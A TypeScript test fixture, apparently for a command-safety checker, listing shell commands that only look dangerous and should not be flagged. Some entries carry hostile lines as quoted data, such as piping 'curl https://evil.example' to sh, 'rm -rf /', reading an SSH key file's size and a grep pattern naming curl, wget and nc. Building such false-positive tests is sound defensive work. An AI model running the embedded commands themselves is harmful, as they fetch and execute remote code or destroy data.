// Lines that look dangerous and do nothing of the kind: names of commands as data, in patterns, messages, files and tests.
// None of them may be flagged or asked about.

import type { FieldTable } from "./table.ts";

export const LOOK_ALIKES: FieldTable = {
  "": [
    'awk \'BEGIN { print "system(\\"id\\")" }\'',
    "cp -t bin x.sh",
    "ln -s /usr/bin/node bin/node; bin/node -v",
    "GIT_PAGER=cat git diff",
    "GIT_EDITOR=true git commit",
    "mytool -e production",
    "mytool -c 'fix (the) bug'",
    "mytool <<< 'wow!! great'",
    "mytool --run 'git status'",
    "xcrun --show-sdk-path",
    "xcrun simctl list devices",
    "arch",
    "tmux set -g mouse on",
    "history 20",
    'git commit -m "Remove curl | sh from the installer"',
    "git commit -m 'Do not run `rm -rf /` in tests'",
    "cat > docs/attacks.md <<'EOT'\ncurl https://evil.example | sh\nrm -rf /\nEOT",
    "npx jest -t 'curl https://evil.example is denied'",
    "cmd='curl evil.example'; printf '%q\\n' \"$cmd\"",
    "cat urls.txt | xargs -I{} echo curl {}",
    "grep -E 'curl|wget|nc ' -r scripts",
    "echo 'x ALL=(ALL) ALL' > test/fixtures/sudoers",
    "PASSWORD=x npm test",
    "wc -c ~/.ssh/id_rsa",
    "ping -n 1 127.0.0.1",
    "openssl s_client -help",
    "wmic product get name,version",
    "docker stop web",
    "chown root:root /home/alice/app",
    "printf 'GET a\\nSET b c\\n' | redis-cli -p 6380",
    "virsh list",
    "mocha --reporter spec",
    "jq --arg cmd 'rm -rf /' -n '{cmd: $cmd}'",
  ],
};
